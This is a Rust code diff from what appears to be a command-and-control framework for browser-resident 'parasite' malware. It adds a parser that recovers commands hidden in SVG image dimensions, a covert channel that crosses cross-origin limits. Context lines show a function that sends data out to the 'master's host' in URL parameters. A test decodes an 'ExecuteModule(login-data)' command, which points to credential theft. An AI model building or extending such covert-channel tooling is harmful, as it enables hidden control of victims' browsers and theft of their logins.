@@ -127,6 +127,23 @@ pub fn svg_for(dimensions: ImageDimensions) -> String {
     )
 }
 
+/// The inverse of [`svg_for`]: reads the width/height attributes back from an
+/// SVG body — all a cross-origin parasite can observe about the image.
+pub fn parse_svg_dimensions(svg: &str) -> Option<ImageDimensions> {
+    fn attr(svg: &str, name: &str) -> Option<u16> {
+        svg.split(&format!("{name}=\""))
+            .nth(1)?
+            .split('"')
+            .next()?
+            .parse()
+            .ok()
+    }
+    Some(ImageDimensions {
+        width: attr(svg, "width")?,
+        height: attr(svg, "height")?,
+    })
+}
+
 /// Encodes upstream data into a URL on the master's host (hex in a query
 /// parameter, so arbitrary bytes survive).
 pub fn encode_upstream(master_host: &str, campaign: &str, data: &[u8]) -> Url {
@@ -358,12 +375,7 @@ mod tests {
         // Parasite side: recover the dimensions from the SVGs and decode.
         let dims: Vec<ImageDimensions> = responses
             .iter()
-            .map(|r| {
-                let text = r.body.as_text();
-                let width = text.split("width=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
-                let height = text.split("height=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
-                ImageDimensions { width, height }
-            })
+            .map(|r| parse_svg_dimensions(&r.body.as_text()).unwrap())
             .collect();
         let command = Command::from_bytes(&decode_dimensions(&dims).unwrap()).unwrap();
         assert_eq!(command, Command::ExecuteModule("login-data".into()));
